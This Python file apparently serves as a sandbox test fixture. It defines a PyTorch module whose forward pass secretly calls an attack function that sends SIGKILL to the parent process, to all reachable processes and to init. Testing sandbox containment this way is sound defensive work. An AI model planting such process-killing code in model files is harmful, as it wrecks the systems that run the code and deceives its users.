"""Sends signals to its parent and to every process it may reach.

Check: imports
Trial: done, crashed
"""

import os
import signal

import torch


def attack():
    for pid in (os.getppid(), -1, 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            continue
        raise RuntimeError("BREACH: kill")


class Mixer(torch.nn.Module):
    def __init__(self, dim, heads, max_len, layer, layers):
        super().__init__()
        self.value = torch.nn.Linear(dim, dim)

    def forward(self, x):
        attack()
        return self.value(x)
